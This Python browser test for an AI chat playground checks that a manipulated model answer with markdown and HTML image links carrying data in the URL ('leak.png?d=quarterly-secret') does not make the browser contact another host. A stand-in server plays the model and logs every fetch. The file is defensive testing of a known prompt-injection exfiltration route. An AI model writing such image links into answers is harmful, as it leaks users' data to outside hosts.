"""A manipulated answer cannot make the browser call another host (issue 11: `![x](http://host/leak.png?d=...)`).

The attack needs a model that writes an image link on demand, which the small embedded model does not do reliably,
so the model here is a stand-in at the HTTP boundary: an OpenAI-compatible server that always answers with image
references pointing at itself, and records every request the browser sends it.
"""

from __future__ import annotations

import json
import threading
from http.server import ThreadingHTTPServer

import pytest
from browser import add_account, chromium_page, served_playground, sign_in
from conftest import cli_env
from standin_model import OpenAIStandIn

pytestmark = pytest.mark.browser


def manipulated_answer(port: int) -> str:
    return (f"Here is the chart you asked for. ![chart](http://localhost:{port}/leak.png?d=quarterly-secret) "
            f"and <img src=\"http://localhost:{port}/leak2.png?d=quarterly-secret\"> done.")


class StandInModel(OpenAIStandIn):
    fetched: list[str] = []

    def do_GET(self) -> None:
        StandInModel.fetched.append(self.path)
        if self.path.endswith("/models"):
            self._json({"object": "list", "data": [{"id": "local", "object": "model"}]})
        else:
            self.send_response(200)
            self.send_header("Content-Type", "image/png")
            self.end_headers()

    def do_POST(self) -> None:
        body = json.loads(self.rfile.read(int(self.headers.get("Content-Length", 0))) or b"{}")
        answer = manipulated_answer(self.server.server_address[1])
        if not body.get("stream"):
            return self._json({"id": "c1", "object": "chat.completion", "created": 0, "model": "local",
                               "choices": [{"index": 0, "message": {"role": "assistant", "content": answer},
                                            "finish_reason": "stop"}],
                               "usage": {"prompt_tokens": 5, "completion_tokens": 30, "total_tokens": 35}})
        self.send_response(200)
        self.send_header("Content-Type", "text/event-stream")
        self.end_headers()
        base = {"id": "c1", "object": "chat.completion.chunk", "created": 0, "model": "local"}
        for piece in (answer[:40], answer[40:]):
            self._event({**base, "choices": [{"index": 0, "delta": {"role": "assistant", "content": piece},
                                              "finish_reason": None}]})
        self._event({**base, "choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]})
        self._event({**base, "choices": [], "usage": {"prompt_tokens": 5, "completion_tokens": 30,
                                                      "total_tokens": 35}})
        self.wfile.write(b"data: [DONE]\n\n")



@pytest.fixture
def stand_in_model():
    server = ThreadingHTTPServer(("127.0.0.1", 0), StandInModel)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    StandInModel.fetched = []
    yield server.server_address[1]
    server.shutdown()
    server.server_close()


def test_an_answer_with_remote_images_fetches_nothing(data_dir, tmp_path, stand_in_model):
    password = add_account(data_dir, "image-user")
    env = cli_env(data_dir, SANDBOX_LOCAL_MODEL_URL=f"http://127.0.0.1:{stand_in_model}/v1")
    with served_playground(env, tmp_path / "serve.log") as url, chromium_page() as page:
        violations = []
        page.on("console", lambda m: violations.append(m.text) if "Content Security Policy" in m.text else None)
        sign_in(page, url, "image-user", password)
        page.locator("#prompt textarea").fill("Show me the quarterly chart.")
        page.locator("#send").click()
        page.locator("#policy-panel").get_by_text("Audit record").wait_for(timeout=90_000)
        page.locator("#chat").get_by_text("Here is the chart").first.wait_for(timeout=30_000)
        page.wait_for_timeout(2000)  # time for the browser to fetch an image, were it to
        chat = page.locator("#chat").inner_text()
    leaks = [p for p in StandInModel.fetched if "leak" in p]
    assert not leaks, f"the browser fetched {leaks}"
    assert "image not shown: chart from localhost" in chat
    # The page itself loads nothing the policy forbids (a Gradio asset blocked by it would show up here).
    assert not [v for v in violations if "leak" not in v], violations
